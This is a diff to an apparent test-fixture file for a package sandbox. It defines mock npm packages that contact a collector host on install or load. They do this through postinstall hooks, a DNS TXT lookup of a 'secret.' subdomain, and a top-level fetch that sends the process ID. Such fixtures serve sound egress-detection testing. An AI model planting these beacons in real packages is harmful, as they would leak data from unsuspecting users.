@@ -56,6 +56,13 @@ require('node:dns').resolveTxt('secret.${collectorOf('loads')}', () => {});
 setInterval(() => {}, 1000);
 `;
 
+/** Speaks at its top level, and waits for the answer, so that it can't be required. */
+const LOADS_AS_MODULE = `
+import process from 'node:process';
+await fetch('https://${collectorOf('loads-as-module')}/' + process.pid).catch(() => {});
+export default 1;
+`;
+
 function fixture(name, manifest, files = {}) {
   return {
     name,
@@ -110,7 +117,13 @@ export const PACKAGES = Object.fromEntries(
     fixture('middle', { dependencies: { leaf: '1.0.0' } }),
     fixture('top', { dependencies: { middle: '1.0.0' } }),
     fixture('asks-registry', postinstall(`node reach.js registry.lab.example`)),
-    fixture('loads', {}, { 'index.js': LOADS }),
+    // Each can be loaded in one way only.
+    fixture('loads', { exports: { require: './index.js' } }, { 'index.js': LOADS }),
+    fixture(
+      'loads-as-module',
+      { type: 'module', exports: { import: './index.js' } },
+      { 'index.js': LOADS_AS_MODULE },
+    ),
     fixture('newcomer', postinstall(`node reach.js ${collectorOf('newcomer')}`)),
   ].map((one) => [one.name, one]),
 );
